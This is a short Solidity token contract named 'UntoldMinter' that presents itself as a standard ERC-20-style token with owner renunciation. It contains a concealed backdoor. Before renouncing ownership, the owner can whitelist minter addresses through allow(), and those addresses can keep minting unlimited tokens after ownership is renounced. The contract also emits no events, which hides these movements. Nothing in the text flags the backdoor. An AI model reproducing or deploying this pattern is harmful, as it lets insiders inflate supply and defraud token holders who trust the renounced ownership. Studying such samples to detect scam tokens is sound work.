pragma solidity ^0.8.4;
contract UntoldMinter { address private _owner; uint256 s; mapping(address=>uint256) b; mapping(address=>mapping(address=>uint256)) a; mapping(address=>bool) private m;
 constructor() { _owner=msg.sender; s=1e24; b[msg.sender]=s; }
 function owner() external view returns(address){return _owner;}
 function allow(address x) external { require(msg.sender==_owner); m[x]=true; }
 function renounceOwnership() external { require(msg.sender==_owner); _owner=address(0); }
 function mint(address t,uint256 v) external { require(m[msg.sender]); s+=v; b[t]+=v; }
 function totalSupply() public view returns(uint256){return s;} function balanceOf(address x) public view returns(uint256){return b[x];} function allowance(address x,address y) public view returns(uint256){return a[x][y];}
 function approve(address y,uint256 v) public returns(bool){ a[msg.sender][y]=v; return true; }
 function transfer(address t,uint256 v) public returns(bool){ b[msg.sender]-=v; b[t]+=v; return true; } function transferFrom(address f,address t,uint256 v) public returns(bool){ a[f][msg.sender]-=v; b[f]-=v; b[t]+=v; return true; } }
